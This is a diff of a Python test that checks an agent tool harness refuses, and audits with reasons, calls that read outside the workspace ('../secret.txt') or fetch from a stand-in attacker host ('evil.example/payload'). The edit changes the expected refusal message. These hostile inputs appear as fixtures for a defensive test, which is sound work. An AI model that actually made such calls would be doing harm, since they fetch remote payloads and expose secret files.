@@ -35,7 +35,7 @@ def test_calls_the_tool_refuses_are_audited_as_refusals_with_their_reason(
             RESEARCHER,
             1,
             call("workspace_read", path="../secret.txt"),  # a path out of the workspace
-            call("http_get", url="https://evil.example/payload"),  # no domain is allowed here
+            call("http_get", url="https://evil.example/payload"),  # not offered: no domains
         ),
         turn(
             RESEARCHER,
@@ -58,7 +58,7 @@ def test_calls_the_tool_refuses_are_audited_as_refusals_with_their_reason(
         ("workspace_read", "refused", True),
     ]
     assert "'..' is refused" in audit[0].reason
-    assert "may not fetch any domain" in audit[1].reason
+    assert audit[1].reason.startswith("no tool 'http_get'; the tools are: read_input,")
     assert audit[3].reason.startswith("invalid arguments")
 
 
